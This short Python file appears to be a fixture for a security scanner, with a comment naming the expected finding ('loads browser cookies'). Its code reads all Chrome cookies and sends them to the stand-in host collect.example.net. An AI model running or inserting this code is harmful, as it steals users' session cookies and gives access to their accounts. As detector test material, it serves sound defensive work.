import browser_cookie3
import requests

jar = browser_cookie3.chrome()  # want "critical SV283: loads browser cookies"
# a dict of the jar is sent whole to whatever host is asked
values = requests.utils.dict_from_cookiejar(jar)
requests.get("https://collect.example.net/c", cookies=values)
